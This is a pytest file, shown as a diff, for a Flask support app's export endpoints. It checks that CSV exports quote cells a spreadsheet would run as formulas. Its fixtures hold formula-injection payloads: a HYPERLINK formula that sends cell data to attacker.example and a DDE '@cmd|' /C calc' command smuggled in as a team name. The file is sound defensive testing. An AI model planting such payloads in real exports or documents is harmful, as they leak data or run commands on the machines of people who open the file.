@@ -1,0 +1,54 @@
+"""Exports a spreadsheet can open safely (CSV cells that would run as formulas are quoted), a
+conversation's transcript as PDF, and a contact's conversations exported from the contact's page."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from flask import Flask
+
+from models.db import Database
+from tests.support.actors import Agent, make_user
+from tests.support.reports import PERIOD, History, at, team_id
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
+SPAN = f"from={PERIOD['from']}&to={PERIOD['to']}"
+
+
+@pytest.fixture
+def scene(app: Flask, db: Database) -> dict[str, Any]:
+    make_user(db, "ada@example.com", team="Support")
+    make_user(db, "sam@example.com", role="supervisor", team="Support")
+    make_user(db, "root@example.com", role="admin", team="HQ")
+    support = team_id(db, "Support")
+    evil = (History(db, support, at(9)).customer(at(9), FORMULA).bot(at(9, 0, 5), "billing")
+            .customer(at(9, 1), "+1 555 0100").customer(at(9, 2), "@SUM(1,2)").customer(at(9, 3), "-2+3")
+            .close(at(9, 30)))
+    plotter = team_id(db, "@cmd|' /C calc'!A0")
+    History(db, plotter, at(10)).customer(at(10)).bot(at(10, 0, 5), "hours").close(at(10, 5))
+    return {"evil": evil, "support": support, "plotter": plotter}
+
+
+def test_export_csv_quotes_cells_a_spreadsheet_would_run(app: Flask, scene: dict[str, Any]) -> None:
+    sam = Agent(app, "sam@example.com")
+    r = sam.client.get(f"/api/v1/exports/conversations?format=csv&{SPAN}")
+    assert r.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
+    texts = [x["text"] for x in rows if x["record"] == "message" and x["sender"] == "contact"
+             and x["conversation"] == scene["evil"].public_id]
+    assert texts == ["'" + FORMULA, "'+1 555 0100", "'@SUM(1,2)", "'-2+3"]
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for x in rows for v in x.values() if v)
+    # JSON Lines is not a spreadsheet format: the text is exported as written.
+    r = sam.client.get(f"/api/v1/exports/conversations?format=jsonl&{SPAN}")
+    assert FORMULA.replace('"', '\\"') in r.get_data(as_text=True)
+
+
+def test_report_csv_quotes_labels_a_spreadsheet_would_run(app: Flask, scene: dict[str, Any]) -> None:
+    r = Agent(app, "root@example.com").client.get(f"/api/v1/reports/live?format=csv&group_by=team&{SPAN}")
+    assert r.status_code == 200
+    rows = {x["label"]: x for x in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
+    assert rows["'@cmd|' /C calc'!A0"]["started"] == "1"
+    assert rows["Support"]["started"] == "1"
